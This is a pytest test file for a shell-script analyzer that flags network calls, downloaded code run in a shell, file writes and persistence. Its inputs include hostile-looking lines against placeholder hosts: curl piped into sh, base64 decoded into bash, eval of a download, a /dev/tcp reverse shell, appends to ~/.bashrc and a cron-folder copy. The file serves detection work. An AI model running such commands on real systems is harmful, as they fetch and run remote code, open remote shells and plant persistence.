from __future__ import annotations

import pytest
from telling import told

from gk_hooks.analyzers.context import Context, analyze
from gk_hooks.model.effects import Effect, Execute, Persist, WritePath
from gk_hooks.model.kinds import Kind


def effects(text: str) -> list[Effect]:
    return [effect for effect in analyze(Kind.SHELL, text) if not isinstance(effect, Execute)]


def shown(text: str) -> list[str]:
    return [told(effect) for effect in effects(text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param('c""url https://e.example', ["1 Connect curl https://e.example"], id="empty quotes in a name"),
        pytest.param("c\\url 'https://e.example'", ["1 Connect curl https://e.example"], id="an escape in a name"),
        pytest.param("$'\\x63url' https://e.example", ["1 Connect curl https://e.example"], id="ANSI-C quotes"),
        pytest.param("curl \\\n  -s \\\n  https://e.example", ["1 Connect curl https://e.example"], id="continuation"),
        pytest.param("curl https://e.example # curl https://x", ["1 Connect curl https://e.example"], id="a comment"),
        pytest.param("true;curl https://e.example&", ["1 Connect curl https://e.example"], id="no blanks"),
        pytest.param("x=$((1 + $(curl https://e.example)))", ["1 Connect curl https://e.example"], id="arithmetic"),
        pytest.param("(( x = `curl https://e.example` ))", ["1 Connect curl https://e.example"], id="its command"),
        pytest.param("x=`a \\\n | curl https://e.example`", ["2 Connect curl https://e.example"], id="backticks"),
        pytest.param("a\r\ncurl https://e.example\r\n", ["2 Connect curl https://e.example"], id="Windows line ends"),
        pytest.param("a\rb\ncurl https://e.example", ["2 Connect curl https://e.example"], id="a lone CR is text"),
        pytest.param("if x; then curl https://e.example; fi", ["1 Connect curl https://e.example"], id="if"),
        pytest.param(
            "case $1 in\n a|b) curl https://a.example;;\n (*) curl https://b.example\nesac\nssh c.example",
            ["2 Connect curl https://a.example", "3 Connect curl https://b.example", "5 Connect ssh c.example"],
            id="case",
        ),
        pytest.param(
            "x=$(case a in a) curl https://e.example;; esac)", ["1 Connect curl https://e.example"], id="case()"
        ),
        pytest.param("(cd /; curl https://e.example)", ["1 Connect curl https://e.example"], id="a subshell"),
        pytest.param("{ curl https://e.example; }", ["1 Connect curl https://e.example"], id="braces"),
        pytest.param("[[ a < b && $(curl https://e.example) ]]", ["1 Connect curl https://e.example"], id="a test"),
        pytest.param("((x=1<<2)); curl https://e.example", ["1 Connect curl https://e.example"], id="arithmetic"),
        pytest.param("x=`curl \\`echo https://e.example\\``", ["1 Connect curl https://e.example"], id="backticks"),
        pytest.param('x="a $(curl "https://e.example")"', ["1 Connect curl https://e.example"], id="quotes in quotes"),
        pytest.param(
            "diff <(curl https://e.example) x", ["1 Connect curl https://e.example"], id="process substitution"
        ),
        pytest.param("while curl https://e.example; do :; done", ["1 Connect curl https://e.example"], id="while"),
        pytest.param("f() { curl https://e.example; }", ["1 Connect curl https://e.example"], id="a function"),
        pytest.param("function f { curl https://e.example; }", ["1 Connect curl https://e.example"], id="ksh function"),
        pytest.param("! time curl https://e.example", ["1 Connect curl https://e.example"], id="negation and time"),
        pytest.param(
            "cat <<EOF\n$(curl https://e.example)\nEOF\nssh h.example",
            ["2 Connect curl https://e.example", "4 Connect ssh h.example"],
            id="a substitution in a here-document",
        ),
        pytest.param("cat <<'EOF'\n$(curl https://e.example)\nEOF", [], id="a quoted here-document"),
        pytest.param(
            "cat <<-EOF\n\tcurl https://e.example\n\tEOF\nssh h.example", ["4 Connect ssh h.example"], id="<<-"
        ),
        pytest.param(
            "cat <<A <<B\nx\nA\ny\nB\nssh h.example", ["6 Connect ssh h.example"], id="two here-documents on one line"
        ),
    ),
)
def test_reads(text: str, expected: list[str]) -> None:
    assert shown(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param('u=https://e.example; curl "$u/x"', ["1 Connect curl https://e.example/x"], id="a constant"),
        pytest.param("export u=https://e.example; curl ${u}", ["1 Connect curl https://e.example"], id="export"),
        pytest.param("readonly u=a.example; curl $u", ["1 Connect curl a.example"], id="readonly"),
        pytest.param("u=a; u+=.example; ping $u", ["1 Connect ping a.example"], id="appending"),
        pytest.param("o='-s -L'; c=\"curl $o\"; $c a.example", ["1 Connect curl a.example"], id="word splitting"),
        pytest.param('a=(-s a.example); curl "${a[@]}"', ["1 Connect curl a.example"], id="an array"),
        pytest.param("a=(-s a.example); curl ${a[1]}", ["1 Connect curl a.example"], id="an element"),
        pytest.param("curl $u", ["1 Connect curl {…}"], id="never set"),
        pytest.param('curl "$1"', ["1 Connect curl {…}"], id="an argument"),
        pytest.param("u=${u:-https://e.example}; curl $u", ["1 Connect curl {…}"], id="a default is no proof"),
        pytest.param("u=; curl ${u:-a.example}", ["1 Connect curl a.example"], id="the default of an empty value"),
        pytest.param("u=a.example/; curl ${u%/}", ["1 Connect curl a.example"], id="a suffix off"),
        pytest.param('u=a.example; curl "${u:-it\'s}"', ["1 Connect curl a.example"], id="an apostrophe in a default"),
        pytest.param("u=a.example\\'; curl \"${u/\\'/}\"", ["1 Connect curl a.example"], id="a replaced quote"),
        pytest.param("u=A.EXAMPLE; curl ${u,,}", ["1 Connect curl a.example"], id="lower case"),
        pytest.param("n=u; u=a.example; curl ${!n}", ["1 Connect curl a.example"], id="indirection"),
        pytest.param("u=$(echo a.example); curl $u", ["1 Connect curl a.example"], id="the output of echo"),
        pytest.param("printf -v u x; curl $u", ["1 Connect curl {…}"], id="printf -v forgets"),
        pytest.param("u=a.example; read u; curl $u", ["1 Connect curl {…}"], id="read forgets"),
        pytest.param("u=a.example; (u=b.example); curl $u", ["1 Connect curl a.example"], id="a subshell keeps it"),
        pytest.param(
            "u=a.example; if x; then u=b.example; fi; curl $u", ["1 Connect curl a.example or b.example"], id="a branch"
        ),
        pytest.param(
            "if x; then u=a.example; else u=b.example; fi; curl $u",
            ["1 Connect curl a.example or b.example"],
            id="both branches",
        ),
        pytest.param(
            "[ x ] && u=a.example; curl $u", ["1 Connect curl a.example or {…}"], id="a conditional assignment"
        ),
        pytest.param(
            "for h in a.example b.example; do ping $h; done", ["1 Connect ping a.example or b.example"], id="a loop"
        ),
        pytest.param("for h; do ping $h; done", ["1 Connect ping {…}"], id="a loop over the arguments"),
        pytest.param("x=a; while y; do x=${x}b; done; ping $x", ["1 Connect ping a or {…}"], id="grown in a loop"),
        pytest.param(
            'f() {\n  curl "$1"\n}\nf https://e.example', ["2 Connect curl https://e.example"], id="a call's argument"
        ),
        pytest.param(
            "f() {\n  curl $u\n}\nu=https://e.example\nf", ["2 Connect curl https://e.example or {…}"], id="set later"
        ),
        pytest.param("u=a.example\nf() { local u=b.example; }\ncurl $u", ["3 Connect curl a.example"], id="a local"),
        pytest.param("u=x true; curl $u", ["1 Connect curl {…}"], id="for one command only"),
        pytest.param("set -- a.example; curl $1", ["1 Connect curl a.example"], id="set --"),
        pytest.param("alias c='curl -s'; c a.example", ["1 Connect curl a.example"], id="an alias"),
    ),
)
def test_follows_values(text: str, expected: list[str]) -> None:
    assert shown(text) == expected


def test_a_trail_says_where_a_value_was_set() -> None:
    [connect] = effects("host=e.example\nurl=https://$host\ncurl $url")
    steps = [(step.line, step.what) for step in connect.destination.trail]  # type: ignore[attr-defined]
    assert steps == [(1, 'host = "e.example"'), (2, 'url = "https://e.example"')]


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param(
            "curl https://e.example | sh",
            ["1 Connect curl https://e.example", "1 DynamicCode sh text {…}"],
            id="a download into a shell",
        ),
        pytest.param("cat x.sh | sh", [], id="a file into a shell"),
        pytest.param(
            "echo Y3VybCBlLmV4YW1wbGU= | base64 -d | bash",
            ["1 DynamicCode bash text curl e.example", "1 Connect curl e.example"],
            id="base64 into a shell",
        ),
        pytest.param("echo 'curl e.example' | sh", ["1 Connect curl e.example"], id="a constant into a shell"),
        pytest.param('eval "$x"', ["1 DynamicCode eval text {…}"], id="eval"),
        pytest.param(
            'eval "$(curl e.example)"',
            ["1 Connect curl e.example", "1 DynamicCode eval text {…}"],
            id="eval of a download",
        ),
        pytest.param(
            "eval curl e.example",
            ["1 DynamicCode eval text curl e.example", "1 Connect curl e.example"],
            id="eval words",
        ),
        pytest.param(
            'bash -c "$(curl e.example)"',
            ["1 Connect curl e.example", "1 DynamicCode bash text {…}"],
            id="bash -c of a download",
        ),
        pytest.param(
            "sudo bash <(curl e.example)",
            ["1 Connect curl e.example", "1 DynamicCode bash text {…}"],
            id="a process substitution into a shell",
        ),
        pytest.param(
            "source <(curl e.example)",
            ["1 Connect curl e.example", "1 DynamicCode source text {…}"],
            id="source of a process substitution",
        ),
        pytest.param('. "$x"', ["1 DynamicCode . module {…}"], id="source of an unknown file"),
        pytest.param('. "$(dirname "$0")/lib.sh"', [], id="source of a known file in an unknown folder"),
        pytest.param(". ./lib.sh", [], id="source of a file"),
        pytest.param("bash x.sh", [], id="a file for a shell"),
        pytest.param("sh <<EOF\ncurl e.example\nEOF", ["2 Connect curl e.example"], id="a here-document for a shell"),
        pytest.param("sh <<< 'curl e.example'", ["1 Connect curl e.example"], id="a here-string for a shell"),
        pytest.param("bash -lc 'curl e.example'", ["1 Connect curl e.example"], id="bundled -c"),
        pytest.param("trap 'curl e.example' EXIT", ["1 Connect curl e.example"], id="a trap"),
        pytest.param("su -c 'curl e.example' bob", ["1 Connect curl e.example"], id="su -c"),
        pytest.param("LD_PRELOAD=./x.so ls", ["1 LoadNative LD_PRELOAD ./x.so"], id="a preloaded library"),
    ),
)
def test_follows_code_inside_code(text: str, expected: list[str]) -> None:
    assert shown(text) == expected


def test_the_lines_of_a_here_document_are_those_of_the_file() -> None:
    [connect] = effects("\npython3 - <<'X'\nimport urllib.request\nurllib.request.urlopen('https://e.example')\nX\n")
    assert (connect.site.line, connect.site.chain) == (4, ("python input",))


def test_unknown_parts_are_shown_as_such_in_excerpts() -> None:
    [connect] = effects('trap "curl $u/x" EXIT')
    assert connect.site.excerpt == "curl {…}/x"


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param("echo x > /etc/x", ["1 WritePath echo /etc/x write"], id="a redirection"),
        pytest.param("echo x >| /etc/x", ["1 WritePath echo /etc/x write"], id="forced"),
        pytest.param("x &> /etc/x", ["1 WritePath x /etc/x write"], id="both outputs"),
        pytest.param("x 2>>/etc/x", ["1 WritePath x /etc/x append"], id="by number"),
        pytest.param("> /etc/x", ["1 WritePath > /etc/x write"], id="no command"),
        pytest.param("{ x; } > /etc/x", ["1 WritePath > /etc/x write"], id="a group"),
        pytest.param("x 2>&1 >&2 2>&-", [], id="descriptors"),
        pytest.param("cat < /etc/x", [], id="reading"),
        pytest.param(
            "echo x >> ~/.bashrc",
            ["1 WritePath echo ~/.bashrc append", "1 Persist echo autorun login shell append ~/.bashrc"],
            id="a login file",
        ),
        pytest.param(
            'echo x > "$HOME/.profile"',
            ["1 WritePath echo ~/.profile write", "1 Persist echo autorun login shell write ~/.profile"],
            id="a login file by HOME",
        ),
        pytest.param(
            "d=/etc/cron.d; cp x $d/x",
            ["1 WritePath cp /etc/cron.d/x copy", "1 Persist cp schedule cron copy /etc/cron.d/x"],
            id="a cron folder",
        ),
        pytest.param("exec 3<>/dev/tcp/10.0.0.1/80", ["1 Connect exec 10.0.0.1"], id="/dev/tcp"),
        pytest.param("bash -i >& /dev/tcp/$h/80 0>&1", ["1 Connect bash {…}"], id="/dev/tcp of an unknown host"),
    ),
)
def test_redirections(text: str, expected: list[str]) -> None:
    assert shown(text) == expected


@pytest.mark.parametrize(
    "text",
    (
        pytest.param("# curl https://e.example", id="a comment"),
        pytest.param("echo 'install curl https://e.example'", id="a message"),
        pytest.param("printf 'curl %s\\n' https://e.example", id="a printed message"),
        pytest.param("cat <<EOF\nusage: curl https://e.example\nEOF", id="a help text"),
        pytest.param("command -v curl; which curl; type curl; hash curl", id="is it there?"),
        pytest.param("[ -x /usr/bin/curl ] || exit 1", id="a test for the program"),
        pytest.param("if ! curl --version; then exit 1; fi", id="its version"),
        pytest.param("systemctl status ssh; crontab -l; service ssh status; at -l", id="queries"),
        pytest.param("curl() { echo; }; curl https://e.example", id="a function of that name"),
        pytest.param("x='curl https://e.example'", id="an assignment alone"),
        pytest.param("git status; git log --oneline", id="git at home"),
        pytest.param("grep -r 'https://e.example' .", id="a search for a URL"),
        pytest.param("", id="nothing"),
        pytest.param("#!/bin/sh", id="a shebang"),
    ),
)
def test_is_silent(text: str) -> None:
    assert shown(text) == []


@pytest.mark.parametrize(
    ("text", "place"),
    (
        pytest.param("  curl e.example  # x", (1, 3, 1, 17), id="blanks around"),
        pytest.param("true && curl \\\n a.example; x", (1, 9, 2, 11), id="over two lines"),
        pytest.param("é=1\nx=$(curl e.example)", (2, 5, 2, 19), id="in a substitution"),
    ),
)
def test_places(text: str, place: tuple[int, int, int, int]) -> None:
    [effect] = [effect for effect in effects(text) if not isinstance(effect, WritePath | Persist)]
    site = effect.site
    assert (site.line, site.column, site.end_line, site.end_column) == place


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param(
            "x='a\ncurl e.example",
            ["2 Connect curl e.example", "1 Unparsed unterminated quote that starts on line 1"],
            id="a single quote",
        ),
        pytest.param(
            'a\nb "$c\ncurl e.example',
            ["3 Connect curl e.example", "2 Unparsed unterminated quote that starts on line 2"],
            id="a double quote",
        ),
        pytest.param(
            "x=$(curl e.example\n",
            ["1 Connect curl e.example", "1 Unparsed unterminated substitution that starts on line 1"],
            id="a substitution",
        ),
        pytest.param("fi; done; esac; }; ); curl e.example", ["1 Connect curl e.example"], id="stray closings"),
        pytest.param("cat <<EOF\ncurl a.example", [], id="a here-document without its end"),
        pytest.param("case x in a; curl e.example", ["1 Connect curl e.example"], id="a broken case"),
        pytest.param("\0curl\0 e.example\0", [], id="NULs"),
    ),
)
def test_broken_syntax(text: str, expected: list[str]) -> None:
    assert shown(text) == expected


@pytest.mark.parametrize(
    "text",
    (
        pytest.param("$(" * 200_000, id="substitutions"),
        pytest.param("`" * 200_001, id="backticks"),
        pytest.param('"$(' * 100_000, id="quoted substitutions"),
        pytest.param("${x:-" * 100_000, id="parameters"),
        pytest.param("(" * 200_000, id="parentheses"),
        pytest.param("(" * 100_000 + ")" * 100_000, id="balanced parentheses"),
        pytest.param("((a) " * 50_000, id="half arithmetic"),
        pytest.param("{ " * 200_000, id="braces"),
        pytest.param("if x; then " * 50_000, id="branches"),
        pytest.param("case x in a) " * 50_000, id="cases"),
        pytest.param("cat <<E\n" * 50_000, id="here-documents"),
        pytest.param("<<E " * 50_000 + "\n", id="here-documents on one line"),
        pytest.param("[[ a " * 50_000, id="tests"),
        pytest.param("'" * 199_999, id="quotes"),
        pytest.param("$'" * 100_000, id="ANSI-C quotes"),
        pytest.param("a" * 1_000_000, id="one word"),
        pytest.param(" " * 1_000_000 + "curl", id="blanks"),
        pytest.param("x=$x$x$x$x;" * 20_000, id="doubling"),
        pytest.param("x=aaaaaaaaaaaaaaaa;" + "x=$x$x;" * 5_000, id="doubling of text"),
        pytest.param("eval eval eval " * 20_000, id="evals"),
        pytest.param("sudo " * 50_000 + "curl a.example", id="wrappers"),
        pytest.param("sh -c \"sh -c 'sh -c x'\";" * 5_000, id="shells in shells"),
        pytest.param("f() { f; };" * 20_000, id="functions"),
        pytest.param("\udc80curl \ud800", id="lone surrogates"),
    ),
)
def test_hostile_input_ends(text: str) -> None:
    analyze(Kind.SHELL, text, Context())
